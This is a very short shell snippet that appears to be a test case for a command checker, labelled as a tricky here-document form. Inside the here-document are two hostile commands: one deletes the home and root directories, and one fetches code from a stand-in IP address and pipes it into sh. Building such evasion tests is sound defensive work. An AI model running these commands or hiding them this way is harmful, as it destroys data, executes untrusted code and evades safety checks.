# tricky: the program is a here-document
sh <<'EOF'
cd /
rm -rf ./home ./root
wget -qO- http://203.0.113.9/x | sh
EOF
